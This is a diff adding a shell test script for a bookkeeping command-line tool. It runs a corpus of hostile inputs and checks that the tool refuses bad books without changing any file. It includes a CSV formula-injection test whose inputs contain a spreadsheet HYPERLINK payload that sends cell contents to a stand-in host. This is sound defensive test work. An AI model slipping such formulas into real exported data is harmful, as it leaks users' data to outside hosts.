@@ -1,0 +1,195 @@
+#!/bin/sh
+# hostile.sh - the hostile-input corpus: every case under tests/hostile/
+# (see tests/hostile/README.md) is run against a fresh copy of the small
+# book tests/hostile/base, and must give exactly its expected exit status
+# and stderr (file:line:column messages) and leave every file of the book
+# byte-for-byte as it was, with no temporary files left behind.
+#
+# A case whose expected status is 1 and that runs `check` is also run as a
+# writer (`add`): a book with errors must refuse every change, unchanged.
+#
+# CASES=pattern runs only the matching cases. HOSTILE_ACCEPT=1 writes the
+# actual output as the expected output (for reviewing new cases; never
+# commit the result without reading it).
+. "$(dirname "$0")/../lib.sh"
+
+HOSTILE=$ROOT/tests/hostile
+BASE=$HOSTILE/base
+nskip=0
+
+# Whatever a case directory holds besides these is a book file to install.
+is_control() {
+    case "$1" in
+    about | args | expect | status | stdout | env | setup | teardown | unprivileged | README.md) return 0 ;;
+    esac
+    return 1
+}
+
+# The state of a book folder: every path, and every file's checksum. The
+# lock file is not part of the book (writers create it).
+snapshot() {
+    (cd "$1" && find . ! -name .lock -print | LC_ALL=C sort &&
+        find . -type f ! -name .lock -exec cksum {} + 2>&1 | LC_ALL=C sort)
+}
+
+# Run the case's command line ($work/argv, one argument per line) in
+# $work, with the case's environment, under $PREFIX (see below).
+run_case() { # $1 case dir, $2 work dir, $3 out file, $4 err file
+    (
+        cdir=$1 wdir=$2
+        cd "$wdir" || exit 125
+        if [ -f "$cdir/env" ]; then
+            while IFS= read -r kv; do
+                [ -n "$kv" ] && export "$kv"
+            done <"$cdir/env"
+        fi
+        set --
+        while IFS= read -r a; do set -- "$@" "$a"; done <"$wdir/argv"
+        # Unquoted: $SAMLA may be a command with arguments (a wrapper), and
+        # $PREFIX is empty or a command that runs the rest.
+        $PREFIX $SAMLA "$@"
+    ) >"$3" 2>"$4"
+}
+
+# For the permission cases: how to run without the power to ignore file
+# permissions. As root that means dropping CAP_DAC_OVERRIDE and
+# CAP_DAC_READ_SEARCH from the bounding set (root keeps its uid, so the
+# rest of the system stays reachable, but a file of mode 000 is unreadable
+# even to its owner). Empty when not root; "none" when it cannot be done.
+unprivileged_prefix() {
+    [ "$(id -u)" != 0 ] && return 0
+    p="setpriv --bounding-set -dac_override,-dac_read_search --"
+    if command -v setpriv >/dev/null 2>&1 && $p true 2>/dev/null; then
+        echo "$p"
+    else
+        echo none
+    fi
+}
+
+for dir in "$HOSTILE"/*/; do
+    dir=${dir%/}
+    name=${dir##*/}
+    [ "$name" = base ] && continue
+    case "$name" in *${CASES:-}*) ;; *) continue ;; esac
+    if [ ! -f "$dir/status" ] && [ -z "${HOSTILE_ACCEPT:-}" ]; then
+        not_ok "hostile/$name" "no status file"
+        continue
+    fi
+
+    work=$TMPROOT/$name
+    mkdir -p "$work"
+    cp -R "$BASE/." "$work/bok/"
+    for f in "$dir"/*; do
+        b=${f##*/}
+        is_control "$b" || cp "$f" "$work/bok/$b"
+    done
+    if [ -f "$dir/args" ]; then cp "$dir/args" "$work/argv"; else printf '%s\n' -f bok check >"$work/argv"; fi
+
+    PREFIX=
+    if [ -f "$dir/unprivileged" ]; then
+        PREFIX=$(unprivileged_prefix)
+        if [ "$PREFIX" = none ]; then
+            ok "hostile/$name # SKIP körs som root och setpriv kan inte ta bort CAP_DAC_OVERRIDE"
+            nskip=$((nskip + 1))
+            continue
+        fi
+    fi
+    if [ -f "$dir/setup" ]; then
+        msg=$(cd "$work" && sh "$dir/setup" 2>&1)
+        src=$?
+        if [ "$src" -eq 77 ]; then
+            ok "hostile/$name # SKIP $msg"
+            nskip=$((nskip + 1))
+            continue
+        elif [ "$src" -ne 0 ]; then
+            not_ok "hostile/$name: setup" "setup exited $src: $msg"
+            continue
+        fi
+    fi
+
+    before=$(snapshot "$work/bok")
+    run_case "$dir" "$work" "$work/.out" "$work/.err"
+    rc=$?
+    after=$(snapshot "$work/bok")
+
+    if [ -n "${HOSTILE_ACCEPT:-}" ]; then
+        echo "$rc" >"$dir/status"
+        cp "$work/.err" "$dir/expect"
+    fi
+    want=$(cat "$dir/status")
+    if [ "$rc" = "$want" ]; then
+        ok "hostile/$name: exit status $want"
+    else
+        not_ok "hostile/$name: exit status" "got $rc, expected $want" "stderr: $(head -c 2000 "$work/.err")"
+    fi
+    if cmp -s "$work/.err" "$dir/expect"; then
+        ok "hostile/$name: exact message"
+    else
+        not_ok "hostile/$name: exact message" "$(diff "$dir/expect" "$work/.err" | head -20)"
+    fi
+    if [ -f "$dir/stdout" ]; then
+        if cmp -s "$work/.out" "$dir/stdout"; then
+            ok "hostile/$name: exact output"
+        else
+            not_ok "hostile/$name: exact output" "$(diff "$dir/stdout" "$work/.out" | head -10)"
+        fi
+    fi
+    if [ "$before" = "$after" ]; then
+        ok "hostile/$name: book unchanged"
+    else
+        not_ok "hostile/$name: book unchanged" "$(printf '%s\n' "$before" >"$work/.b"; printf '%s\n' "$after" >"$work/.a"; diff "$work/.b" "$work/.a" | head -10)"
+    fi
+
+    # A book with errors refuses writes too, and stays as it was.
+    if [ "$want" = 1 ] && [ "$(sed -n 3p "$work/argv")" = check ] && [ ! -f "$dir/args" ]; then
+        printf '%s\n' -f bok add --date 2025-06-01 --account 7690 --activity PROC \
+            --amount 100 --text Skrivförsök >"$work/argv"
+        run_case "$dir" "$work" "$work/.out2" "$work/.err2"
+        rc=$?
+        after=$(snapshot "$work/bok")
+        if [ "$rc" = 1 ] && [ "$before" = "$after" ] &&
+            grep -q 'inget har ändrats' "$work/.err2"; then
+            ok "hostile/$name: add refused, book unchanged"
+        else
+            not_ok "hostile/$name: add refused, book unchanged" "add exited $rc" "$(tail -3 "$work/.err2")"
+        fi
+    fi
+    if [ -f "$dir/teardown" ]; then
+        (cd "$work" && sh "$dir/teardown") >/dev/null 2>&1
+    fi
+    chmod -R u+rwX "$work" 2>/dev/null
+    rm -rf "$work"
+done
+
+# Formula injection: journal text that a spreadsheet would run as a formula
+# is exported to CSV as text (a leading apostrophe).
+book=$(fresh_book)
+run $SAMLA -f "$book" list --help
+if [ "$RC" -ne 0 ] || ! $SAMLA -f "$book" list --help 2>&1 | grep -q -- '--format'; then
+    ok "hostile/formula-injection # SKIP 'samla list --format csv' finns inte ännu"
+    nskip=$((nskip + 1))
+else
+    before=$(snapshot "$book")
+    for t in '=HYPERLINK("http://x.invalid/?"&A1;"klicka")' '+1+1' '-2+3' '@SUM(A1:A2)'; do
+        run $SAMLA -f "$book" add --date 2025-12-31 --account 7690 --activity GEM \
+            --amount 1 --text "$t"
+    done
+    run $SAMLA -f "$book" list --period 2025-12-31 --format csv
+    expect_rc 0 "hostile/formula-injection: list --format csv"
+    case "$OUT" in
+    *"'=HYPERLINK("*) ok "hostile/formula-injection: =HYPERLINK exported as '=HYPERLINK" ;;
+    *) not_ok "hostile/formula-injection: =HYPERLINK exported as '=HYPERLINK" "output: $(printf '%s' "$OUT" | tail -5)" ;;
+    esac
+    for p in "'+1+1" "'-2+3" "'@SUM(A1:A2)"; do
+        case "$OUT" in
+        *"$p"*) ok "hostile/formula-injection: $p" ;;
+        *) not_ok "hostile/formula-injection: $p" "output: $(printf '%s' "$OUT" | tail -5)" ;;
+        esac
+    done
+    if printf '%s\n' "$OUT" | grep -q '^[^;]*;[^;]*;=\|;=HYPERLINK\|;"=HYPERLINK'; then
+        not_ok "hostile/formula-injection: no cell starts with =" "$(printf '%s' "$OUT" | grep '=HYPERLINK')"
+    else
+        ok "hostile/formula-injection: no cell starts with ="
+    fi
+fi
+echo "# $nskip skipped"
